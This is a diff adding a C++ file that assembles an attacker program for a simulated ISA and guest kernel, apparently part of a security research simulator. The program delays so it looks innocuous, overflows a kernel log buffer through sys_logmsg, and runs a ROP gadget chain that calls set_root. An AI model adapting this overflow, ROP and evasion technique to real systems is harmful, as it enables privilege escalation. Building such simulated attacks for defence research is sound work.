@@ -1,0 +1,101 @@
+#include "attack/attack_mounter.h"
+
+#include "common/log.h"
+#include "isa/assembler.h"
+#include "kernel/layout.h"
+
+namespace rsafe::attack {
+
+using isa::Assembler;
+using isa::R0;
+using isa::R1;
+using isa::R2;
+using isa::R3;
+using isa::R4;
+using isa::R5;
+using isa::R6;
+using isa::R10;
+
+namespace {
+
+/** Emit the attacker program around @p payload (size must be stable). */
+isa::Image
+emit(Addr code_base, Addr staging_buf, std::uint64_t delay_iters,
+     const std::vector<std::uint8_t>& payload)
+{
+    Assembler a(code_base);
+    a.func_begin("atk_main");
+
+    // Warm-up: look like an innocuous task for a while.
+    a.ldi(R10, static_cast<std::int64_t>(delay_iters));
+    a.label("atk_delay");
+    a.ldi(R2, 0);
+    a.beq(R10, R2, "atk_go");
+    a.addi(R10, R10, -1);
+    a.jmp("atk_delay");
+
+    // Stage the exploit string into writable memory.
+    a.label("atk_go");
+    a.ldi_label(R3, "atk_payload");
+    a.ldi(R4, static_cast<std::int64_t>(staging_buf));
+    a.ldi(R5, static_cast<std::int64_t>(payload.size()));
+    a.label("atk_copy");
+    a.ldi(R2, 0);
+    a.beq(R5, R2, "atk_fire");
+    a.ldb(R6, R3, 0);
+    a.stb(R4, 0, R6);
+    a.addi(R3, R3, 1);
+    a.addi(R4, R4, 1);
+    a.addi(R5, R5, -1);
+    a.jmp("atk_copy");
+
+    // Fire: sys_logmsg with a length far beyond the kernel buffer.
+    a.label("atk_fire");
+    a.ldi(R1, static_cast<std::int64_t>(staging_buf));
+    a.ldi(R2, static_cast<std::int64_t>(payload.size()));
+    a.ldi(R0, static_cast<std::int64_t>(kernel::kSysLogMsg));
+    a.syscall();
+
+    // The faked iret frame resumes here after the gadget chain ran.
+    a.label("atk_done");
+    a.ldi(R0, static_cast<std::int64_t>(kernel::kSysExit));
+    a.syscall();
+    a.jmp("atk_done");  // unreachable
+    a.func_end();
+
+    a.align(8);
+    a.label("atk_payload");
+    a.bytes(payload);
+    return a.link();
+}
+
+}  // namespace
+
+AttackProgram
+build_attacker_program(const kernel::GuestKernel& kernel, Addr code_base,
+                       Addr staging_buf, std::uint64_t delay_iters)
+{
+    GadgetFinder finder(kernel.image);
+
+    // Pass 1: dummy payload of the final size, to learn label addresses.
+    RopChain probe = build_logmsg_chain(finder, kernel, kernel.set_root,
+                                        staging_buf, /*attacker_resume=*/0);
+    isa::Image pass1 = emit(code_base, staging_buf, delay_iters,
+                            std::vector<std::uint8_t>(probe.payload.size(), 0));
+    const Addr resume = pass1.symbol("atk_done");
+
+    // Pass 2: the real payload, resuming at atk_done.
+    AttackProgram program;
+    program.chain = build_logmsg_chain(finder, kernel, kernel.set_root,
+                                       staging_buf, resume);
+    if (program.chain.payload.size() != probe.payload.size())
+        panic("attacker payload size changed between passes");
+    program.image = emit(code_base, staging_buf, delay_iters,
+                         program.chain.payload);
+    if (program.image.symbol("atk_done") != resume)
+        panic("attacker image layout changed between passes");
+    program.entry = program.image.symbol("atk_main");
+    return program;
+}
+
+}  // namespace rsafe::attack
